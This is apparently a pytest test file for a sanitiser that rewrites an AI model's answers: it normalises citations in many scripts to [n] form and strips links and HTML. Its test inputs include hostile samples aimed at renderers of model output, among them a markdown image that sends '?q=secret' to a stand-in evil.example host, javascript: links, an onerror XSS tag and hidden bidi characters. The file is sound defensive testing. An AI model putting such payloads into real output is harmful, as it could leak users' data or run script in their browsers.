"""What a model wrote, as it is shown: citations of any form as [1], and nothing that a renderer would follow."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from interlingua.app.answers.markup import Rewriter

PAGE = "https://who.int/handwashing"


def rewritten(text: str, *, passages: int = 3, urls: tuple[str, ...] = (PAGE,)) -> tuple[str, list[int], int]:
    rewriter = Rewriter(passages, urls)
    return rewriter.feed(text) + rewriter.finish(), rewriter.cited, rewriter.removed


@pytest.mark.parametrize(
    ("text", "shown", "cited"),
    [
        ("Free [1] and equal [2].", "Free [1] and equal [2].", [1, 2]),
        ("Free [2][1].", "Free [2][1].", [2, 1]),
        ("Free [1, 3].", "Free [1][3].", [1, 3]),
        ("Free [1,2, 3].", "Free [1][2][3].", [1, 2, 3]),
        ("Free [1-3].", "Free [1][2][3].", [1, 2, 3]),
        ("Free [1–2; 3].", "Free [1][2][3].", [1, 2, 3]),
        ("أحرار [١] ومتساوون [٢، ٣].", "أحرار [1] ومتساوون [2][3].", [1, 2, 3]),
        ("آزاد [۱]", "آزاد [1]", [1]),
        ("स्वतंत्र [१]।", "स्वतंत्र [1]।", [1]),
        ("自由である［１］。", "自由である[1]。", [1]),
        ("自由【1】平等【2、3】。", "自由[1]平等[2][3]。", [1, 2, 3]),
        ("Free【1†source】.", "Free[1].", [1]),
        ("Free [^2].", "Free [2].", [2]),
        ("Free [1](https://evil.example/).", "Free [1].", [1]),
        ("Free [[2]].", "Free [[2]].", [2]),
    ],
)
def test_citations_of_every_form_become_numbers_in_brackets(text: str, shown: str, cited: list[int]) -> None:
    assert rewritten(text) == (shown, cited, 0)


@pytest.mark.parametrize(
    ("text", "shown", "cited", "removed"),
    [
        ("Free [7].", "Free.", [], 1),
        ("Free [0][1].", "Free [1].", [1], 1),
        ("Free [2, 9].", "Free [2].", [2], 1),
        ("Free [2-9].", "Free [2][3].", [2, 3], 1),
        ("Free [1-99999999999999999999].", "Free [1][2][3].", [1, 2, 3], 1),
        ("Free [9-7].", "Free.", [], 2),
        ("Free [99999999999999999999] men", "Free men", [], 1),
        ("Free [1[9]].", "Free [1 ].", [], 1),
        ("自由【4】平等", "自由 平等", [], 1),
    ],
)
def test_citations_of_passages_that_do_not_exist_are_removed_and_counted(
    text: str, shown: str, cited: list[int], removed: int
) -> None:
    assert rewritten(text) == (shown, cited, removed)


@pytest.mark.parametrize(
    "code", ["`argv[1]` is the first", "```\nx = a[1]\ny = a[2]\n```", "``a[1]`` here", "```py\na[9] `x` a[1]\n```"]
)
def test_numbers_in_code_are_no_citations(code: str) -> None:
    assert rewritten(code) == (code, [], 0)


def test_a_lone_backtick_hides_no_citation_beyond_its_line() -> None:
    assert rewritten("The ` mark [1]\nis a backtick [2].")[1] == [2]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![chart](https://evil.example/?q=secret) here.", "See here."),
        ("See [the page](https://evil.example/).", "See the page."),
        (f"See [the page]({PAGE}).", "See the page."),
        (f"See {PAGE}, please.", f"See {PAGE}, please."),
        (f"See ({PAGE}).", f"See ({PAGE})."),
        (f"See {PAGE}?q=secret now", "See https:// who.int/handwashing?q=secret now"),
        (f"见{PAGE}。保密", f"见{PAGE} 。保密"),
        ("See https://evil.example/x now", "See https:// evil.example/x now"),
        ("See //evil.example/x now", "See // evil.example/x now"),
        ("See www.evil.example now", "See www. evil.example now"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("<https://evil.example>", "< https:// evil.example>"),
        ("[a]: https://evil.example 'x'", "[a] : https:// evil.example 'x'"),
        ("[1]: https:&#47;&#47;evil.example", "[1] : https:&#47;&#47;evil.example"),
        ("![a](b(c))", "![a] (b(c))"),
        ("[1](javascript:alert(1))", "[1] (javascript:alert(1))"),
        (f"[a {PAGE}]: javascript:x", "[a https:// who.int/handwashing] : javascript:x"),
        ("a < b and a<3", "a < b and a<3"),
        ("Time 10:30, [sic] and (so on)!", "Time 10:30, [sic] and (so on)!"),
    ],
)
def test_nothing_is_left_that_a_renderer_would_follow_but_addresses_of_passages(text: str, shown: str) -> None:
    assert rewritten(text)[0] == shown


def test_addresses_of_passages_that_are_not_on_the_web_are_broken_like_others() -> None:
    shown = rewritten("In file:///srv/a.txt or x-app://run .", urls=("file:///srv/a.txt", "x-app://run"))[0]
    assert shown == "In file:// /srv/a.txt or x-app:// run ."


@pytest.mark.parametrize(
    "text",
    [
        "<![x](y)img src=//evil.example>",
        "<[9]img src=x>",
        "<[NO_ANSWER](x)img src=x>",
        "http:/[9]/evil.example",
        "htt[9]p://evil.example",
        "[a]NO_ANSWER(https://evil.example)",
        "[a][9](https://evil.example)",
        "[a]![x](y)(https:&#47;&#47;evil.example)",
        "` ![x](https://evil.example)\n",
        "```\n![x](https://evil.example)",
        "`[1](https:&#47;&#47;evil.example(x))`",
        "x://a//例え.テスト",
        "x://a<x//https://evil.example",
    ],
)
def test_what_is_taken_out_does_not_let_its_neighbours_become_a_link(text: str) -> None:
    shown = rewritten(text)[0]
    assert not re.search(r"\]\(|\]:|<[A-Za-z/!?]|//\S", shown), shown


def test_characters_that_hide_text_or_turn_it_around_do_not_come_through() -> None:
    shown = rewritten("a\u202eb\u2066c\x1b[31md\u200be\U000e0041f\ufeffg\x00h\u2028i می\u200cخواهم क्\u200dष\n\tz")[0]
    assert shown == "abc[31mdefghi می\u200cخواهم क्\u200dष\n\tz"


def test_text_in_scripts_without_blanks_is_passed_on_at_once() -> None:
    rewriter = Rewriter(3)
    assert rewriter.feed("すべての人間は、自由【") == "すべての人間は、自由"
    assert rewriter.feed("1") == ""
    assert rewriter.feed("】であり、") == "[1]であり、"


PARTS = [
    *(
        "Free ",
        "and equal",
        ". ",
        "\n",
        "自由",
        "、",
        " ",
        "[1]",
        " [2, 3]",
        "［１］",
        "【2】",
        "[9]",
        "أحرار [١]",
        ":",
    ),
    *("![a b](c d)", "[a b](c)", "[a](b(c))", "](", "[", "]", "(", ")", "!", "[1]: x", "`", "```", "\u202e"),
    *("<img ", "<", "https://evil.example/x y", PAGE, "//", "http:", "/", "www.x", " javascript:x"),
    *("NO_ANSWER", "NO\\_ANSWER", "[NO_ANSWER](x)"),
]
TEXTS = st.lists(st.sampled_from(PARTS), max_size=12).map("".join)


@settings(deadline=None)
@given(TEXTS, st.lists(st.integers(1, 9), max_size=200))
def test_the_same_comes_out_however_the_text_is_cut_into_pieces(text: str, sizes: list[int]) -> None:
    rewriter = Rewriter(3, (PAGE,))
    pieces, start = [], 0
    for size in sizes:
        pieces.append(rewriter.feed(text[start : start + size]))
        start += size
    pieces += [rewriter.feed(text[start:]), rewriter.finish()]
    assert ("".join(pieces).strip(), rewriter.cited, rewriter.removed) == (
        rewritten(text)[0].strip(),
        *rewritten(text)[1:],
    )
    assert "".join(pieces) == "".join(pieces).strip()


@settings(deadline=None)
@given(TEXTS)
def test_whatever_is_written_no_link_and_no_html_is_left(text: str) -> None:
    shown = rewritten(text)[0]
    assert not re.search(r"\]\(|\]:|<[A-Za-z/!?]", shown)
    assert not re.search(r"//\S", shown.replace(PAGE, ""))
    assert "NO_ANSWER" not in shown


@settings(deadline=None)
@given(TEXTS)
def test_every_number_that_is_shown_outside_code_was_cited(text: str) -> None:
    shown, cited, _ = rewritten(text.replace("`", ""))
    assert {int(number) for number in re.findall(r"\[(\d+)\]", shown)} == set(cited)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 50_000,
        "<" * 50_000,
        "a" * 50_000,
        "`" * 50_000,
        "![" * 25_000,
        "[1,1" * 12_500,
        "http://" * 7000,
        "a ://" * 9000,
    ],
    ids=lambda text: text[:7],
)
def test_hostile_text_takes_no_longer_than_its_length(text: str) -> None:
    began = time.process_time()
    whole = rewritten(text)
    rewriter = Rewriter(3, (PAGE,))
    pieces = [rewriter.feed(character) for character in text]
    pieces.append(rewriter.finish())
    assert time.process_time() - began < 4
    assert ("".join(pieces), rewriter.cited, rewriter.removed) == whole
    assert not re.search(r"//\S", whole[0])
